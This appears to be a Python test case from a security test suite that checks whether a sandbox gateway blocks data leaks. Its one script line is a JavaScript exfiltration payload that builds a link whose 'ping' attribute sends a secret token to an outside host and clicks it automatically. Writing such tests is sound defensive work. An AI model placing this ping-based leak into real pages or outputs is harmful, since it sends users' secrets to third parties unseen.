"""A script clicks a link that tells an address outside of it."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import WEB


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    script = f"""const a = document.createElement('a'); a.href = '#'; a.ping = 'http://{WEB}/{ground.token}'; document.body.append(a); a.click()"""
    return ground.leave_by_script(script)


ATTACK = Attack("a script in an output", attempt, recorded=("gateway.refused", "message.media"))
